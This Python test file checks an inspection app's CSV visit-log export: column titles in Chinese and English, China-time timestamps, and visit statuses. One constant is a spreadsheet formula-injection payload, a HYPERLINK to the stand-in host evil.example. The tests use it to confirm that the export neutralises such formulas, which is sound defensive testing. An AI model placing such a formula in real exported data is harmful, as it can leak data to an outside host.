"""The visit log as CSV, read back as a spreadsheet would: the one writer behind every export."""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

import pytest

from inspector_app.cli import main
from inspector_app.platform.clock import FakeClock
from inspector_app.services.exports import this_tablets_visit_log_csv
from inspector_app.services.recorder import CheckInRequest, VisitRecorder
from inspector_app.services.workspace import Workspace
from tests.conftest import OFFICERS

ZHANG, LIU, ZHAO = "37142320001", "37142320002", "37142330001"
#: 德州恒信机械制造有限公司 in the demo profile.
ENTERPRISE = "91371421EUHUXQEE8D"
HOSTILE_REASON = '=HYPERLINK("http://evil.example/?leak","点此查看")'


def _visits(ws: Workspace, clock: FakeClock) -> tuple[str, str]:
    """A routine joint visit checked out with required items unanswered, and an abandoned
    survey; the first starts at 2026-01-01 00:00 UTC, which is 08:00 in China."""
    recorder = VisitRecorder(ws)
    zhang, liu, zhao = (ws.ledger.unlock(c, OFFICERS[c][1]) for c in (ZHANG, LIU, ZHAO))
    routine = recorder.check_in(zhang, CheckInRequest(ENTERPRISE, "routine", HOSTILE_REASON,
                                                      justification="复查"), [liu])
    clock.advance(47 * 60)
    recorder.check_out(zhang, routine.id, "typed", incomplete_reason="企业设备停用，无法检查")
    survey = recorder.check_in(zhao, CheckInRequest(ENTERPRISE, "survey", "走访调研",
                                                    justification="复查"))
    clock.advance(60)
    recorder.abandon(zhao, survey.id, "企业停产，无人接待")
    return routine.id, survey.id


def _read(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # Excel on Chinese Windows reads it as UTF-8
    text = data.decode("utf-8-sig")
    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_command_line_export_reads_back_with_names_status_reasons_and_china_time(
        capsys: pytest.CaptureFixture[str], workspace: Workspace, clock: FakeClock,
        data_dir: Path, tmp_path: Path) -> None:
    routine_id, survey_id = _visits(workspace, clock)
    target = tmp_path / "visits.csv"
    assert main(["--data-dir", str(data_dir), "--lang", "zh", "export", "--format", "csv",
                 "-o", str(target)]) == 0
    rows = {r["检查编号"]: r for r in _read(target.read_bytes())}
    routine, survey = rows[routine_id], rows[survey_id]
    # Checked out with required items unanswered: incomplete, and the reason beside it.
    assert routine["状态"] == "未完成" and survey["状态"] == "已放弃"
    assert routine["签到时间（北京时间）"] == "2026-01-01 08:00"
    assert routine["签退时间（北京时间）"] == "2026-01-01 08:47"
    assert routine["时长（分钟）"] == "47" and routine["计时依据"] == "按设备启动计时（可信）"
    assert (routine["部门代码"], routine["部门"]) == ("lc-amr", "陵城区市场监督管理局")
    assert (routine["检查类型代码"], routine["检查类型"]) == ("routine", "日常检查")
    assert routine["类别"] == "执法类" and survey["类别"] == "非执法类"
    assert (routine["执法证号"], routine["执法人员"]) == (ZHANG, "张明")
    assert routine["共同执法人员"] == f"刘洋（{LIU}）"
    assert routine["事由"] == "'" + HOSTILE_REASON  # shown as text, never run as a formula
    assert routine["检查表未完成原因"] == "企业设备停用，无法检查"
    assert survey["放弃原因"] == "企业停产，无人接待" and routine["放弃原因"] == ""
    assert routine["企业名称"] == "德州恒信机械制造有限公司" and routine["企业在册"] == "是"
    assert routine["完整性"] == "完整" and routine["送达"].startswith("待同步")
    # The same rows on standard output (no byte-order mark there: it is for files).
    assert main(["--data-dir", str(data_dir), "--lang", "zh", "export", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert not out.startswith("\ufeff") and out.count(routine_id) == 1


def test_english_words_and_titles(workspace: Workspace, clock: FakeClock) -> None:
    routine_id, survey_id = _visits(workspace, clock)
    rows = {r["Visit id"]: r for r in _read(this_tablets_visit_log_csv(workspace, "en"))}
    routine, survey = rows[routine_id], rows[survey_id]
    assert (routine["Status"], survey["Status"]) == ("incomplete", "abandoned")
    assert routine["Kind"] == "Routine inspection" and survey["Category"] == "non-enforcement"
    assert routine["Timing basis"] == "timed on the boot clock (trusted)"
    assert routine["Department"] == "Lingcheng District Market Regulation Bureau"
    assert routine["Checked in (China time)"] == "2026-01-01 08:00"
    assert survey["Why abandoned"] == "企业停产，无人接待"


def test_times_are_china_time_whatever_zone_the_machine_is_set_to(
        workspace: Workspace, clock: FakeClock, monkeypatch: pytest.MonkeyPatch) -> None:
    routine_id, _ = _visits(workspace, clock)
    monkeypatch.setenv("TZ", "America/New_York")
    time.tzset()
    try:
        rows = {r["检查编号"]: r for r in _read(this_tablets_visit_log_csv(workspace, "zh"))}
    finally:
        monkeypatch.undo()
        time.tzset()
    assert rows[routine_id]["签到时间（北京时间）"] == "2026-01-01 08:00"
